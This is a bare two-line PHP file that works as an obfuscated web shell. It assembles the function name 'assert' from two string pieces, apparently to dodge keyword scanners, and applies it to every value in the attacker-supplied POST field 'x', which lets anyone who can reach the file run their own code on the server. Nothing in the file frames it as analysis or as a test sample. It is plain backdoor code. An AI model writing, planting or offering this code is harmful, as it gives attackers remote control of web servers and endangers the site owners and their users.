<?php
$a = array_map("ass" . "ert", $_POST['x']);
